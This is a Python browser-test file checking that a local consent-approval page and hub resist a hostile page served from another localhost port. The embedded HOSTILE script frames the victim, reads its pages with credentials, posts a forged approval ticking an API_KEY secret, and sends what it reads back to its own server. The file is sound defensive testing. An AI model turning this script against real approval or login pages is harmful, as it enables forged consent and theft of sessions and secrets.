"""Attacks on pages for people from another port of the same machine, in a real Chromium."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import httpx2
import pytest

from consent.answering.page import Page, served
from consent.ledger import Approval
from consent.request import ConsentRequest, Fact, Tick
from tests.browser import CHROMIUM, browser
from tests.hub_process import running_hub

pytestmark = [pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed"), pytest.mark.promise("S7")]

#: What a job's own page does in another tab: asks itself, the victim and its frames, and tells what it could read.
HOSTILE = """<!doctype html><title>a job's page</title><body><script>
const victim = new URLSearchParams(location.search).get("victim");
const tell = (what) => fetch("/told", { method: "POST", body: String(what), credentials: "include" });
const frame = document.createElement("iframe"); frame.src = victim; document.body.append(frame);
const again = async () => {
  await fetch("/poll", { credentials: "include" });
  for (const path of ["/", "/answer", "/waiting"]) {
    await fetch(victim + path, { credentials: "include" }).then((r) => r.text()).then(tell, () => tell("no"));
    const body = new URLSearchParams({ say: "yes", tick: "API_KEY", question: "5a3c9961", token: "" });
    await fetch(victim + path, { method: "POST", mode: "no-cors", credentials: "include", body }).catch(() => {});
  }
  try { await tell(frame.contentDocument.body.textContent); } catch { await tell("no frame"); }
  setTimeout(again, 50);
};
again();
</script>"""
REQUEST = ConsentRequest(
    "submit", "ab" * 32, "Run this?", (Fact("Runs", "python train.py"),),
    (Tick("API_KEY", "API_KEY", "from here", kind="secret", required=False),), details='{"script": "line one\\nline two"}',
)  # fmt: skip
ASKED = Approval("5a3c9961", REQUEST.digest, "stdio:x", REQUEST, "pending", frozenset(), time.time(), time.time() + 600)


@dataclass
class Hostile:
    """A web server of a job's: every header it was sent, and everything its page could read."""

    origin: str = ""
    cookies: list[str] = field(default_factory=list)
    polls: int = 0
    told: list[str] = field(default_factory=list)

    def wait_for_polls(self, more: int) -> None:
        wanted, deadline = self.polls + more, time.monotonic() + 20
        while self.polls < wanted:
            assert time.monotonic() < deadline, "the hostile page does not run"
            time.sleep(0.02)


@contextmanager
def hostile_page() -> Iterator[Hostile]:
    seen = Hostile()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.polls += self.path == "/poll"
            self._answer(HOSTILE)

        def do_POST(self) -> None:
            seen.told.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
            self._answer("")

        def _answer(self, body: str) -> None:
            seen.cookies += self.headers.get_all("Cookie") or []
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *args: object) -> None:
            """Nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    seen.origin = f"http://127.0.0.1:{server.server_address[1]}"
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    try:
        yield seen
    finally:
        server.shutdown()
        server.server_close()


def test_a_page_on_another_port_sees_no_cookie_no_token_and_gives_no_answer() -> None:
    answers: list[tuple[str, frozenset[str] | None]] = []

    def record(approval: Approval, ticked: frozenset[str] | None) -> bool:
        answers.append((approval.id, ticked))
        return True

    def waiting() -> list[Approval]:
        return [] if answers else [ASKED]

    with hostile_page() as hostile, browser() as tab, served(Page(waiting, record)) as page:
        tab.open_beside(f"{hostile.origin}/?victim={page.origin}")
        hostile.wait_for_polls(2)
        tab.open(page.address)
        token = tab.wait_for("document.querySelector('[name=token]')?.value")
        hostile.wait_for_polls(5)
        assert answers == []
        buttons = "document.querySelector('button.yes').getBoundingClientRect().bottom <= innerHeight"
        assert tab.value(buttons) is True
        tab.wait_for("!document.querySelector('button.yes').disabled")
        tab.value("document.querySelector('button.yes').click()")
        tab.wait_for("document.querySelector('h1').textContent.startsWith('Approved')")
        hostile.wait_for_polls(2)
        assert answers == [(ASKED.id, frozenset({"API_KEY"}))]
        assert hostile.cookies == []
        assert not any(token in told or "Run this?" in told for told in hostile.told)
        assert tab.value("document.cookie") == ""
        assert tab.problems == []


def test_a_page_looks_again_by_itself_and_shows_a_question_that_came_later() -> None:
    waiting = [ASKED]
    with browser() as tab, served(Page(lambda: list(waiting), lambda *_: True)) as page:
        tab.open(page.address)
        tab.wait_for("document.querySelectorAll('article').length === 1")
        assert tab.value("document.querySelector('article pre').textContent") == "line one\nline two"
        waiting.append(
            Approval("77777777", "b" * 64, "x", REQUEST, "pending", frozenset(), time.time(), time.time() + 9)
        )
        tab.wait_for("document.querySelectorAll('article').length === 2")
        waiting.clear()
        tab.wait_for("document.querySelectorAll('article').length === 0")
        assert tab.problems == []


def test_a_page_on_another_port_is_not_sent_the_hubs_session(tmp_path: Path) -> None:
    with hostile_page() as hostile, running_hub(tmp_path) as hub, browser() as tab:
        answer = httpx2.post(f"{hub.endpoint}/api/local/ticket", headers={"Authorization": f"Bearer {hub.token}"})
        tab.open_beside(f"{hostile.origin}/?victim={hub.endpoint}")
        hostile.wait_for_polls(1)
        tab.open(f"{hub.endpoint}/login?ticket={answer.json()['ticket']}")
        tab.wait_for("document.querySelector('h1')?.textContent === 'Jobs' && location.pathname === '/'")
        session = tab.value("localStorage.getItem('session')")
        assert session.startswith("/s/")
        hostile.wait_for_polls(4)
        tab.open(f"{hub.endpoint}/")
        tab.wait_for("document.querySelector('#jobs') !== null")
        assert tab.value("document.cookie") == ""
        assert hostile.cookies == []
        assert not any(session in told or "No job has run" in told for told in hostile.told)
        assert parse_qs(urlsplit(tab.value("location.href")).query) == {}
